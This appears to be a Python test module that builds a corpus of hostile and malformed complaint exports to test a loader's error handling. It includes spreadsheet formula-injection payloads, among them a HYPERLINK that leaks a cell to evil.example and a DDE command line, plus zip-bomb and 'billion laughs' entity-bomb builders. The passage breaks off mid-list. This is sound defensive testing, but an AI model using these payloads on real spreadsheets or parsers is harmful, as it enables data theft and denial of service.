"""The corpus of hostile and broken exports: each input, the profile it is loaded with, and its outcome.

Every file is written by a builder into a test's folder, nothing is stored: a builder is easier
to read than a binary file. Each input is loaded through a real profile (the sample's adult social
care and children's profiles, or the small CSV profile below). The table CORPUS is the one source
of both the parametrised test (tests/test_bad_inputs.py) and the table in docs/bad_inputs.md:
`python -m tests.bad_inputs` prints the table, and a test fails when the doc differs.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

SAMPLE_PROFILES = Path(__file__).resolve().parents[1] / "sample_data" / "profiles"
ADULT_PROFILE = SAMPLE_PROFILES / "adult_social_care.toml"
CHILDRENS_PROFILE = SAMPLE_PROFILES / "childrens.toml"

# A small long-layout CSV profile: one row per stage, every kind of field a council's export has.
CSV_PROFILE = """
[source]
name = "hostile"
encoding = "{encoding}"
delimiter = ","

[dates]
order = "dmy"

[constants]
organisation = "Testshire Council"
process = "corporate"

[columns]
case_id = "Case Ref"
stage = "Stage"
team = "Team"
service = "Service"
category = "Category"
raised_via = "Source"
received = "Received"
responded = "Responded"
outcome = "Outcome"
remedy = "Remedy"
learning = "Learning"
response_text = "Letter"

[values.stage]
"1" = ["Stage 1"]
"2" = ["Stage 2"]

[values.raised_via]
public = ["Member of Public"]
mp = ["MP"]

[values.outcome]
partly_upheld = ["Partially Upheld"]

[personal]
drop = ["Name", "Email"]
complainant_key = ["Email"]
"""

CSV_HEADER = ("Case Ref", "Stage", "Team", "Service", "Category", "Source", "Name", "Email",
              "Received", "Responded", "Outcome", "Remedy", "Learning", "Letter")

ADULT_HEADER = (
    "Reference", "Stage", "Service User", "Date of Birth", "Contact Name", "Relationship", "Contact Email",
    "Contact Phone", "Address", "Postcode", "Raised By", "Received Via", "Service Team", "Category", "Handled By",
    "Date Received", "Date Acknowledged", "Agreed Response Date", "Revised Response Date", "Reason for Revision",
    "Response Date", "Outcome", "Remedy", "Remedy Amount", "Lessons Learned", "Action Due", "Action Completed",
    "Signed Off By", "Date Closed",
)

SCRIPT = "<script>alert('x')</script>"
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)")


def csv_row(case_id: str, stage: str = "Stage 1", received: str = "14/04/2023", responded: str = "28/04/2023",
            outcome: str = "Upheld", **overrides: str) -> dict[str, str]:
    """One stage row of the small CSV export; any column can be overridden by its name (spaces as _)."""
    row = {"Case Ref": case_id, "Stage": stage, "Team": "Housing Complaints", "Service": "Repairs", "Category": "Damp",
           "Source": "Member of Public", "Name": "Ann Lee", "Email": "ann.lee@example.org", "Received": received,
           "Responded": responded, "Outcome": outcome, "Remedy": "", "Learning": "", "Letter": "Dear Ms Lee"}
    return row | {name.replace("_", " "): value for name, value in overrides.items()}


def csv_text(rows: list[dict[str, str]], header: tuple[str, ...] = CSV_HEADER, delimiter: str = ",", lineterminator: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, delimiter=delimiter, lineterminator=lineterminator)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def csv_profile(folder: Path, encoding: str = "auto") -> Path:
    path = folder / f"hostile-{encoding}.toml"
    path.write_text(CSV_PROFILE.format(encoding=encoding), encoding="utf-8")
    return path


GOOD_ROWS = [csv_row("C1"), csv_row("C2"), csv_row("C2", "Stage 2", "02/05/2023", "30/05/2023", "Not Upheld")]


def adult_workbook(path: Path, rows: list[dict], formulas: bool = False) -> Path:
    """An adult social care register as the sample's: a title block, the header on row 6.

    Text starting with '=' is stored as text, as a case system's export holds it; with
    FORMULAS it is stored as a formula, which openpyxl writes with no computed value.
    """
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Complaints Register"
    for title in ("Northshire County Council", "Adult Social Care: Complaints Register", "Period: 2023-24", "Produced by a test", None):
        sheet.append([title])
    sheet.append(list(ADULT_HEADER))
    for row in rows:
        sheet.append([row.get(name) for name in ADULT_HEADER])
        for cell in sheet[sheet.max_row]:
            if cell.data_type == "f" and not formulas:
                cell.data_type = "s"
    workbook.save(path)
    return path


def adult_row(reference: str, received, **overrides) -> dict:
    row = {"Reference": reference, "Stage": "Local Resolution", "Raised By": "Service User", "Service Team": "Home Care",
           "Date Received": received, "Outcome": "Well Founded", "Contact Name": "Karen White"}
    return row | {name.replace("_", " "): value for name, value in overrides.items()}


def childrens_document(cases: object) -> str:
    return json.dumps({"export": {"system": "test"}, "cases": cases})


def childrens_case(case_id: str, stages: object) -> dict:
    return {"case_id": case_id, "service": "Children in Care", "category": "Communication", "contact_method": "Email",
            "raised_by": "Parent", "handled_by": "Complaints Team", "date_closed": None,
            "complainant": {"name": "Dan Lee", "email": "dan@example.org"}, "stages": stages}


def childrens_stage(stage: str = "Stage 1", received: str = "2023-04-07", responded: str = "2023-04-18") -> dict:
    return {"stage": stage, "received_date": received, "response_date": responded, "outcome": "UPHELD"}


# -- builders: each writes its input into FOLDER and returns (export, profile) ----------------------

Builder = Callable[[Path], tuple[Path, Path]]


def _csv_file(name: str, data: bytes | str, encoding: str = "auto") -> Builder:
    def build(folder: Path) -> tuple[Path, Path]:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path, csv_profile(folder, encoding)
    return build


def _xlsx_file(name: str, write: Callable[[Path], None]) -> Builder:
    def build(folder: Path) -> tuple[Path, Path]:
        path = folder / name
        write(path)
        return path, ADULT_PROFILE
    return build


def _json_file(name: str, text: str) -> Builder:
    def build(folder: Path) -> tuple[Path, Path]:
        path = folder / name
        path.write_text(text, encoding="utf-8")
        return path, CHILDRENS_PROFILE
    return build


def _amounts_csv(name: str, amounts: dict[str, str]) -> Builder:
    """The small CSV export with an Amount column mapped to remedy_amount, one row per case id and amount."""
    def build(folder: Path) -> tuple[Path, Path]:
        profile = folder / "amounts.toml"
        profile.write_text(CSV_PROFILE.format(encoding="auto").replace('remedy = "Remedy"', 'remedy = "Remedy"\nremedy_amount = "Amount"'),
                           encoding="utf-8")
        path = folder / name
        path.write_text(csv_text([csv_row(case, Amount=amount) for case, amount in amounts.items()], header=(*CSV_HEADER, "Amount")))
        return path, profile
    return build


def _parquet_declaring(rows: int) -> Builder:
    """A Parquet file of ROWS rows of one repeated case reference: a few hundred kilobytes."""
    def build(folder: Path) -> tuple[Path, Path]:
        import numpy as np
        import pyarrow as pa
        import pyarrow.parquet as pq

        path = folder / "declares.parquet"
        references = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, dtype="int32")), pa.array(["C1"]))
        pq.write_table(pa.table({"Case Ref": references}), path, compression="zstd")
        return path, csv_profile(folder)
    return build


def _cells_in_column_xfd(path: Path) -> None:
    """A register whose rows below the data each hold one cell in Excel's last column, XFD."""
    def widen(sheet: bytes, target: zipfile.ZipFile) -> None:
        rows = b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (row, row) for row in range(8, 1008))
        target.writestr("xl/worksheets/sheet1.xml", sheet.replace(b"</sheetData>", rows + b"</sheetData>"))
    _with_sheet(path, widen)


def _truncated_last_line() -> bytes:
    text = csv_text(GOOD_ROWS + [csv_row("C3", Letter="Dear Mr Cole,\nWe are sorry")])
    return text[: text.rindex("sorry") + 5].encode("utf-8")  # the export stopped in the middle of a letter


def _short_last_line() -> bytes:
    text = csv_text(GOOD_ROWS)
    return (text + "C3,Stage 1,Housing Complaints,Rep").encode("utf-8")


def _mixed_dates() -> str:
    received = ["14/04/2023", "2023-04-14", "14 Apr 2023", "14-04-2023", "14.04.2023", "14/04/2023 09:30",
                "14 April 2023", "04/14/2023", "yesterday", "31/02/2023"]
    return csv_text([csv_row(f"D{n}", received=value, responded="") for n, value in enumerate(received, start=1)])


def _serials_mixed_with_text(path: Path) -> None:
    adult_workbook(path, [
        adult_row("A1", 45030), adult_row("A2", "14/04/2023"), adult_row("A3", 45030.75), adult_row("A4", "45030"),
        adult_row("A5", "n/a"), adult_row("A6", 0), adult_row("A7", 99999999),
    ])


def _dates_1900_and_2099(path: Path) -> None:
    import datetime as dt

    adult_workbook(path, [
        adult_row("A1", dt.datetime(1900, 1, 1), Response_Date=dt.datetime(2099, 12, 31)),
        adult_row("A2", "01/01/1900", Response_Date="31/12/2099"),
        adult_row("A3", 1, Response_Date=73050),  # serial 1: Excel's 1 January 1900, but see dates.py
    ])


def _encrypted_xlsx(path: Path) -> None:
    # Excel saves a password-protected workbook as an OLE compound file (CFB), not a zip: the
    # same magic number as an old .xls. Only the header matters to a reader that looks first.
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage".ljust(512, b"\0"))


def _with_sheet(path: Path, sheet_xml: Callable[[bytes, zipfile.ZipFile], None]) -> None:
    """A real one-row register whose first sheet's XML is replaced by what SHEET_XML writes."""
    adult_workbook(path, [adult_row("A1", "14/04/2023")])
    original = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(original)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                sheet_xml(source.read(member), target)
            else:
                target.writestr(member, source.read(member))


def _stale_dimension(ref: str) -> Callable[[Path], None]:
    """A 40-row register whose sheet declares the range REF: a writer that never updated it."""
    def write(path: Path) -> None:
        adult_workbook(path, [adult_row(f"D{n}", "14/04/2023") for n in range(1, 41)])
        original = path.read_bytes()
        with zipfile.ZipFile(io.BytesIO(original)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for member in source.infolist():
                data = source.read(member)
                if member.filename == "xl/worksheets/sheet1.xml":
                    data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="' + ref.encode() + b'"', data)
                target.writestr(member, data)
    return write


def _rewrite_sheet(path: Path, edit: Callable[[bytes], bytes]) -> None:
    """Rewrite the workbook at PATH with its first sheet's XML passed through EDIT."""
    original = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(original)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            target.writestr(member, edit(data) if member.filename == "xl/worksheets/sheet1.xml" else data)


def _cell(reference: str, xml: bytes) -> Callable[[bytes], bytes]:
    """An edit that makes cell REFERENCE the cell XML (attributes after the reference, then the content)."""
    def edit(sheet: bytes) -> bytes:
        pattern = rb'<c r="' + reference.encode() + rb'"(?:[^>]*/>|[^>]*>.*?</c>)'
        return re.sub(pattern, b'<c r="' + reference.encode() + b'"' + xml + b"</c>", sheet, count=1, flags=re.DOTALL)
    return edit


def _error_cells(path: Path) -> None:
    """Formulas whose cached results are Excel errors: a date received #N/A, a reference #REF!, a remedy #DIV/0!.

    Rows 7 to 11 hold R1 to R5; column A is the reference, K raised by, M the team, P the date
    received, W the remedy. R5's raised by is an error never computed (no cached value, which
    must not take the team's), and its remedy an error written with its type first.
    """
    adult_workbook(path, [adult_row(f"R{n}", "14/04/2023", Remedy="Apology") for n in range(1, 6)])
    for edit in (_cell("P8", b' t="e"><f>VLOOKUP(A8,Dates!A:B,2,0)</f><v>#N/A</v>'),
                 _cell("A9", b' t="e"><f>Cases!A9</f><v>#REF!</v>'),
                 _cell("W10", b' t="e"><f>1/0</f><v>#DIV/0!</v>'),
                 _cell("K11", b' t="e"><f>X()</f>'),
                 lambda sheet: re.sub(rb'<c r="W11"[^>]*>.*?</c>', b'<c t="e" r="W11"><v>#VALUE!</v></c>', sheet, count=1)):
        _rewrite_sheet(path, edit)


def _numbers_and_date_cells(path: Path) -> None:
    """References stored as whole numbers, and dates stored as date cells with and without a time of day."""
    import datetime as dt

    adult_workbook(path, [
        adult_row(1234, dt.datetime(2023, 4, 14)), adult_row(5678, dt.datetime(2023, 4, 14, 17, 45)),
        adult_row(4321.5, dt.datetime(2023, 4, 15), Response_Date=dt.datetime(2023, 5, 2)),
    ])
    _rewrite_sheet(path, _cell("A9", b' t="n"><v>4321.0</v>'))  # a whole number written with a point


def _cell_at_xfd1048576(path: Path) -> None:
    """A register with one more cell, in Excel's last row and column: a grid of 17 billion cells if read densely."""
    adult_workbook(path, [adult_row("A1", "14/04/2023")])
    _rewrite_sheet(path, lambda sheet: sheet.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'))


def _stale_dimension_past_a_bad_date(path: Path) -> None:
    """40 rows declaring A1:N20, the last with a date that is no date: it is read and quarantined."""
    adult_workbook(path, [adult_row(f"D{n}", "14/04/2023" if n < 40 else "31/02/2023") for n in range(1, 41)])
    _rewrite_sheet(path, lambda sheet: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:N20"', sheet))


def _zip_bomb(path: Path) -> None:
    """The sheet inflates to 200 MB (of spaces inside its XML) from a few hundred kilobytes."""
    def bomb(sheet: bytes, target: zipfile.ZipFile) -> None:
        head, tail = sheet.split(b"<sheetData>", 1)
        member = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        member.compress_type = zipfile.ZIP_DEFLATED
        with target.open(member, "w", force_zip64=True) as out:
            out.write(head)
            block = b" " * (1 << 20)
            for _ in range(200):
                out.write(block)
            out.write(b"<sheetData>" + tail)
    _with_sheet(path, bomb)


def _entity_bomb(path: Path) -> None:
    """'Billion laughs': ten levels of entities, each ten of the one before, in the sheet XML."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "ha">{entities}]>'
    def bomb(sheet: bytes, target: zipfile.ZipFile) -> None:
        body = sheet.replace(b"<sheetData>", b"<sheetData><row r='7'><c r='A7' t='inlineStr'><is><t>&l9;</t></is></c></row>", 1)
        target.writestr("xl/worksheets/sheet1.xml", laughs.encode() + body)
    _with_sheet(path, bomb)


def _deeply_nested() -> str:
    return '{"cases": ' + "[" * 100_000 + "]" * 100_000 + "}"


def _deep_record() -> str:
    deep = "{}"
    for _ in range(5000):
        deep = '{"a": ' + deep + "}"
    return '{"cases": [{"case_id": "K1", "stages": [], "notes": ' + deep + "}]}"


def _enum_variants() -> str:
    outcomes = {
        "E1": "UPHELD", "E2": "  upheld  ", "E3": "Not_Upheld", "E4": "Not\u00a0Upheld", "E5": "not\u2003 upheld",
        "E6": "\uff35\uff50\uff48\uff45\uff4c\uff44",  # fullwidth letters: NFKC folds them to Upheld
        "E7": "partially\tupheld", "E8": "Uph\u0435ld",  # Cyrillic e: looks the same, is not
        "E9": "Up\u200bheld",  # a zero-width space inside
    }
    return csv_text([csv_row(case, outcome=value) for case, value in outcomes.items()])


def _every_text_field(value: str) -> str:
    text_columns = ("Team", "Service", "Category", "Remedy", "Learning", "Letter")
    return csv_text([csv_row(f"H{n}", **{name: value for name in text_columns}) for n in (1, 2)]
                    + [csv_row(value)])


def _formula_cells() -> str:
    return csv_text([csv_row(f"F{n}", Team=formula, Service=formula, Learning=formula) for n, formula in enumerate(FORMULAS, 1)]
                    + [csv_row(FORMULAS[1])])


# -- the corpus -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BadInput:
    """One hostile input and what must happen when it is loaded."""

    name: str
    description: str
    build: Builder
    outcome: str  # "error" (one line, exit 2), "quarantined" (some rows, with reasons) or "loaded" (all rows)
    message: str = ""  # error: how the error line starts after the folder; quarantined: how a quarantine detail starts
    read: int | None = None  # rows read, for loaded and quarantined inputs
    reasons: dict[str, int] = field(default_factory=dict)
    records: dict[str, dict[str, str]] = field(default_factory=dict)  # case_id -> fields as loaded (dates ISO)
    slow: bool = False  # run in its own process under a time limit: it could hang or eat memory


CORPUS = (
    BadInput("empty_csv", "empty CSV file (0 bytes)", _csv_file("empty.csv", b""), "error",
             "empty.csv: the file has no header at row 1 (empty file?)"),
    BadInput("header_only", "CSV with a header and no rows", _csv_file("header.csv", csv_text([])), "loaded", read=0),
    BadInput("header_no_line_end", "CSV with a header and no line end", _csv_file("bare.csv", ",".join(CSV_HEADER)), "loaded", read=0),
    BadInput("truncated_in_letter", "CSV whose last line stops inside a quoted letter", _csv_file("cut.csv", _truncated_last_line()),
             "error", "cut.csv: row 5 is cut short: the file ends inside a quoted value (a truncated export?)"),
    BadInput("truncated_short_row", "CSV whose last line stops after a few fields", _csv_file("short.csv", _short_last_line()),
             "error", "short.csv: row 5 has 4 fields, the header has 14: a broken or cut-off line; fix it in the export"),
    BadInput("carriage_return_line_ends", "CSV whose lines end in a carriage return alone (old Mac)", _csv_file(
        "mac.csv", csv_text([csv_row("M1")], lineterminator="\r")), "error",
             "mac.csv: the header at row 1 cannot be read as CSV (a line break inside a value that is not in quotes)"),
    BadInput("carriage_return_in_value", "a carriage return inside an unquoted value (the error must not quote the row)",
             _csv_file("cr.csv", csv_text([csv_row("R1")]) + csv_text([csv_row("R2", Name="Ann\rLee")]).split("\n", 1)[1]),
             "error", "cr.csv: row 3 cannot be read as CSV (a line break inside a value that is not in quotes); fix it in the export"),
    BadInput("control_in_team", "a NUL, a vertical tab and an ESC sequence in a team and a category", _csv_file("nul.csv", csv_text([
        csv_row("N1", Team="Housing\x00 Complaints", Category="Damp\x0b"), csv_row("N2", Team="\x1b[2JHousing Complaints")])),
             "loaded", read=2, records={"N1": {"team": "Housing Complaints", "category": "Damp"},
                                        "N2": {"team": "Housing Complaints"}}),
    BadInput("utf16_with_bom", "UTF-16 with a byte-order mark (Excel's Unicode text)", _csv_file(
        "u16.csv", csv_text([csv_row("U1")]).encode("utf-16")), "error",
             "u16.csv: the file is UTF-16 text (every character in 16 bits); save or export it as UTF-8 (in Excel: CSV UTF-8)"),
    BadInput("utf16_no_bom", "UTF-16 without a byte-order mark", _csv_file("u16le.csv", csv_text([csv_row("U1")]).encode("utf-16-le")),
             "error", "u16le.csv: the file is UTF-16 text"),
    BadInput("utf32_no_bom", "UTF-32 without a byte-order mark, big-endian", _csv_file("u32be.csv", csv_text([csv_row("U1")]).encode("utf-32-be")),
             "error", "u32be.csv: the file is UTF-32 text (every character in 32 bits)"),
    BadInput("nan_and_inf_amounts", "amounts NaN, nan, NAN, -nan, 1.#IND, inf, -Infinity and 1e999, beside a real one and a blank",
             _amounts_csv("amounts.csv", {f"A{n}": amount for n, amount in enumerate(
                 ["NaN", "nan", "NAN", "-nan", "1.#IND", "inf", "-Infinity", "1e999", "£12.50", ""], start=1)}),
             "quarantined", "remedy_amount: 'NaN' is not a number", read=10, reasons={"bad_number": 8},
             records={"A9": {"remedy_amount": "12.5"}, "A10": {"remedy_amount": "nan"}}),
    BadInput("nan_in_text_and_dates", "NaN written for blanks in a team, a date, an outcome and the complainant's email",
             _csv_file("nans.csv", csv_text([csv_row("B1", Team="NaN", responded="nan", outcome="-NaN", Email="nan"), csv_row("B2")])),
             "loaded", read=2, records={"B1": {"team": "nan", "outcome": "nan", "complainant_key": "nan"}}),
    BadInput("personal_data_in_names", "an email in a team, a phone number in a category and in a case id", _csv_file(
        "personal.csv", csv_text([csv_row("P1", Team="jo.ng@example.org", Category="Call 07700 900123"),
                                  csv_row("07700 900456")])), "quarantined",
             "case_id holds a phone number; a case reference must not be personal data", read=2,
             reasons={"personal_data_in_case_id": 1}, records={"P1": {"team": "[email]", "category": "Call [phone]"}}),
    BadInput("personal_data_in_messages", "an email in a date, the complainant's name in an outcome, a team and a case id",
             _csv_file("quoted.csv", csv_text([csv_row("M1", received="ann.lee@example.org"), csv_row("M2", outcome="Ann Lee"),
                                               csv_row("M3", Team="ann lee"), csv_row("M4-LEE")])), "quarantined",
             "received: '[email]' is not a date", read=4,
             reasons={"bad_date": 1, "unmapped_value": 1, "personal_data_in_case_id": 1}, records={"M3": {"team": "[name] [name]"}}),
    BadInput("personal_data_in_bad_value", "an email as an outcome, the value a quarantine message quotes", _csv_file(
        "quoted.csv", csv_text([csv_row("Q1", outcome="jo.ng@example.org"), csv_row("Q2")])), "quarantined",
             "outcome: '[email]' is not mapped", read=2, reasons={"unmapped_value": 1}),
    BadInput("too_many_columns", "CSV with a header of 2,001 columns", _csv_file("wide.csv", ",".join(
        [*CSV_HEADER, *(f"Extra {n}" for n in range(2001 - len(CSV_HEADER)))]) + "\n"), "error",
             "wide.csv: 2,001 columns; at most 2,000 (is this a case system's export? check the delimiter and the header row)"),
    BadInput("wrong_delimiter", "semicolon-separated file, profile says comma", _csv_file("semi.csv", csv_text(GOOD_ROWS, delimiter=";")),
             "error", "semi.csv: the header has one column but contains ';': is the file separated by ';'? "
             "set [source] delimiter = \";\" in the profile"),
    BadInput("bom", "UTF-8 with a byte-order mark", _csv_file("bom.csv", b"\xef\xbb\xbf" + csv_text(GOOD_ROWS).encode()), "loaded", read=3,
             records={"C1": {"team": "Housing Complaints"}}),
    BadInput("cp1252_declared_utf8", "cp1252 bytes, profile says utf-8", _csv_file("cp.csv", csv_text(GOOD_ROWS + [csv_row("C3", Team="Zoë's team")]).encode("cp1252"), "utf-8"),
             "error", "cp.csv: line 5: byte 0xeb is not valid utf-8; set [source] encoding in the profile (utf-8, utf-8-sig or cp1252)"),
    BadInput("cp1252_beyond_ascii", "cp1252 with accents, curly apostrophes, a pound sign and a dash in a team, a remedy and the learning",
             _csv_file("cp.csv", csv_text(GOOD_ROWS + [csv_row("C3", Team="Zoë’s team", Remedy="£50 – paid", Learning="Café’s rota")])
                       .encode("cp1252"), "cp1252"),
             "loaded", read=4, records={"C3": {"team": "Zoë’s team", "remedy": "£50 – paid", "learning": "Café’s rota"},
                                        "C1": {"team": "Housing Complaints"}}),
    BadInput("cp1252_byte_without_character", "a byte cp1252 has no character for (0x81), in a team",
             _csv_file("cp.csv", csv_text(GOOD_ROWS + [csv_row("C3", Team="Zoë’s team"), csv_row("C4", Team="QQQ")])
                       .encode("cp1252").replace(b"QQQ", b"\x81"), "cp1252"),
             "error", "cp.csv: line 6: byte 0x81 is not valid cp1252; set [source] encoding in the profile (utf-8, utf-8-sig or cp1252)"),
    BadInput("utf8_declared_cp1252", "UTF-8 bytes, profile says cp1252", _csv_file("utf8.csv", csv_text(GOOD_ROWS + [csv_row("C3", Team="Zoë's team")]), "cp1252"),
             "error", "utf8.csv: line 5: the file is UTF-8 ('ë', U+00EB, would read as 'Ã«'), not cp1252 as the profile says; "
             "set [source] encoding = \"utf-8\" or leave it out to detect it"),
    BadInput("bom_declared_cp1252", "UTF-8 with a byte-order mark, profile says cp1252",
             _csv_file("bomcp.csv", b"\xef\xbb\xbf" + csv_text(GOOD_ROWS).encode(), "cp1252"), "error",
             "bomcp.csv: line 1: the file is UTF-8 (U+FEFF would read as '\u00ef\u00bb\u00bf'), not cp1252 as the profile says; "
             "set [source] encoding = \"utf-8\" or leave it out to detect it"),
    BadInput("embedded_newlines", "quoted fields with line breaks inside", _csv_file("letters.csv", csv_text([
        csv_row("N1", Letter="Dear Ms Lee,\n\nWe are sorry.\r\nYours,"), csv_row("N2", Learning="one\ntwo"), csv_row("N3")])),
        "loaded", read=3, records={"N1": {"response_text": "Dear Ms [name],\n\nWe are sorry.\r\nYours,", "source_row": "2"},
                                   "N3": {"source_row": "4"}}),
    BadInput("duplicated_header", "two columns called Team", _csv_file("dup.csv", csv_text([], header=CSV_HEADER + ("Team",)) + "C1,Stage 1\n"),
             "error", "dup.csv: the column name 'Team' appears twice in the header; rename one in the export"),
    BadInput("ten_mb_field", "a 10 MB letter in one field", _csv_file("big.csv", csv_text(GOOD_ROWS + [csv_row("C3", Letter="x" * 10_000_000)])),
             "loaded", read=4, records={"C3": {"stage": "1"}}, slow=True),
    BadInput("mixed_date_formats", "one date column in ten formats", _csv_file("dates.csv", _mixed_dates()), "quarantined",
             "received: 'yesterday' is not a date (expected day/month/year)", read=10, reasons={"bad_date": 2, "date_order": 1}),
    BadInput("serials_mixed_with_text", ".xlsx dates as serial numbers, numbers as text, and words", _xlsx_file("serials.xlsx", _serials_mixed_with_text),
             "quarantined", "received: 'n/a' is not a date (expected day/month/year)", read=7, reasons={"bad_date": 3}),
    BadInput("dates_1900_2099", ".xlsx with dates in 1900 and 2099 (cells, text and serials)", _xlsx_file("years.xlsx", _dates_1900_and_2099),
             "quarantined", "received: 1900-01-01 is before 1990-01-01: a placeholder", read=3,
             reasons={"bad_date": 1, "date_out_of_range": 2}),
    BadInput("placeholder_dates", "placeholder dates 01/01/0001 and 31/12/9999 in a CSV", _csv_file("placeholder.csv", csv_text([
        csv_row("P1", received="01/01/0001"), csv_row("P2", responded="31/12/9999"), csv_row("P3")])),
             "quarantined", "received: 0001-01-01 is before 1990-01-01: a placeholder", read=3,
             reasons={"date_out_of_range": 2}, records={"P3": {"received": "2023-04-14"}}),
    BadInput("epoch_and_far_future_dates", "the Unix epoch 01/01/1970 (ISO too) and 01/01/2090 as dates", _csv_file("epoch.csv", csv_text([
        csv_row("P1", received="01/01/1970"), csv_row("P2", received="1970-01-01T00:00:00Z"), csv_row("P3", responded="01/01/2090"),
        csv_row("P4", received="02/01/1990", responded="03/01/1990")])),
             "quarantined", "received: 1970-01-01 is before 1990-01-01: a placeholder", read=4,
             reasons={"date_out_of_range": 3}, records={"P4": {"received": "1990-01-02"}}),
    BadInput("xlsx_formula_text", ".xlsx text cells that start like formulas", _xlsx_file("text.xlsx", lambda p: adult_workbook(p, [
        adult_row(formula, "14/04/2023", Service_Team=formula) for formula in FORMULAS])), "loaded", read=5,
        records={FORMULAS[0]: {"service": FORMULAS[0]}, FORMULAS[1]: {"service": FORMULAS[1]}}),
    BadInput("xlsx_uncomputed_formula", ".xlsx whose case id is a formula never computed (no cached value)",
             _xlsx_file("formula.xlsx", lambda p: adult_workbook(p, [adult_row("A1", "14/04/2023"), adult_row('="A"&2', "14/04/2023")], formulas=True)),
             "quarantined", "case_id is empty", read=2, reasons={"missing_required": 1}),
    BadInput("xlsx_stale_dimension", ".xlsx of 40 rows whose sheet declares the range A1:N20", _xlsx_file(
        "stale.xlsx", _stale_dimension("A1:N20")), "loaded", read=40, records={"D40": {"received": "2023-04-14"}}),
    BadInput("xlsx_dimension_a1", ".xlsx of 40 rows whose sheet declares the range A1 alone", _xlsx_file(
        "a1.xlsx", _stale_dimension("A1")), "loaded", read=40, records={"D1": {"received": "2023-04-14"}}),
    BadInput("xlsx_stale_dimension_bad_date", ".xlsx of 40 rows declaring A1:N20, row 40's date 31/02/2023", _xlsx_file(
        "stalebad.xlsx", _stale_dimension_past_a_bad_date), "quarantined", "received: '31/02/2023' is not a date",
        read=40, reasons={"bad_date": 1}, records={"D39": {"received": "2023-04-14"}}),
    BadInput("xlsx_error_cells", ".xlsx formulas cached as errors (#N/A date, #REF! reference, #DIV/0! and #VALUE! remedies) or never computed",
             _xlsx_file("errors.xlsx", _error_cells), "quarantined", "received: '#N/A' is not a date", read=5,
             reasons={"bad_date": 1}, records={"#REF!": {"received": "2023-04-14"}, "R4": {"remedy": "#DIV/0!"},
                                               "R5": {"remedy": "#VALUE!", "service": "Home Care"}}),
    BadInput("xlsx_numbers_and_date_cells", ".xlsx references stored as numbers (1234, 5678, 4321.0) and date cells with a time",
             _xlsx_file("numbers.xlsx", _numbers_and_date_cells), "loaded", read=3,
             records={"1234": {"received": "2023-04-14"}, "5678": {"received": "2023-04-14"}, "4321": {"responded": "2023-05-02"}}),
    BadInput("xlsx_cell_at_xfd1048576", ".xlsx of 5 KB with one cell in its last row and column, XFD1048576",
             _xlsx_file("far.xlsx", _cell_at_xfd1048576), "error",
             "far.xlsx: sheet Complaints Register, row 1,048,576 has values in 16,384 columns; at most 2,000", slow=True),
    BadInput("xlsx_cells_in_column_xfd", ".xlsx of 28 KB whose rows each hold a cell in column XFD (16,384 cells a row)",
             _xlsx_file("xfd.xlsx", _cells_in_column_xfd), "error",
             "xfd.xlsx: sheet Complaints Register, row 8 has values in 16,384 columns; at most 2,000"),
    BadInput("xlsx_really_csv", "a CSV file named .xlsx", _xlsx_file("fake.xlsx", lambda p: p.write_text(csv_text(GOOD_ROWS))),
             "error", "fake.xlsx: not an .xlsx workbook: it looks like CSV text; load it with a CSV profile or export it as .xlsx"),
    BadInput("xlsx_zero_bytes", "a zero-byte .xlsx", _xlsx_file("zero.xlsx", lambda p: p.write_bytes(b"")), "error",
             "zero.xlsx: the file is empty (0 bytes); export the workbook again"),
    BadInput("xlsx_password", "a password-protected .xlsx", _xlsx_file("locked.xlsx", _encrypted_xlsx), "error",
             "locked.xlsx: the workbook is password-protected or an old .xls (an OLE compound file, not an .xlsx zip); "
             "remove the password or save it as .xlsx, and export again"),
    BadInput("xlsx_zip_bomb", "a zip bomb named .xlsx (a 200 MB sheet)", _xlsx_file("bomb.xlsx", _zip_bomb), "error",
             "bomb.xlsx: xl/worksheets/sheet1.xml would inflate to 200 MB from 0.2 MB (ratio 1,024:1; "
             "the limits are 2,048 MB and 200:1): not a real workbook export", slow=True),
    BadInput("xlsx_entity_bomb", "an .xlsx whose sheet XML is a 'billion laughs' entity bomb", _xlsx_file("laughs.xlsx", _entity_bomb),
             "error", "laughs.xlsx: not a readable .xlsx workbook (XmlError: at 0..0: unrecognized entity `&l9;`)"),
    BadInput("json_not_a_list", "JSON whose records key holds an object", _json_file("object.json", childrens_document({"case_id": "K1"})),
             "error", "object.json: expected a list of records at 'cases', found an object with 1 key ('case_id'); records must be a list"),
    BadInput("json_scalar", "a JSON document that is one string", _json_file("scalar.json", '"cases"'), "error",
             "scalar.json: no key 'cases' holding the records (see [source] records)"),
    BadInput("json_deeply_nested", "JSON nested 100,000 lists deep", _json_file("deep.json", _deeply_nested()), "error",
             "deep.json: nested deeper than Python's JSON reader can follow; a case export is a few levels deep: "
             "check it is the export you meant"),
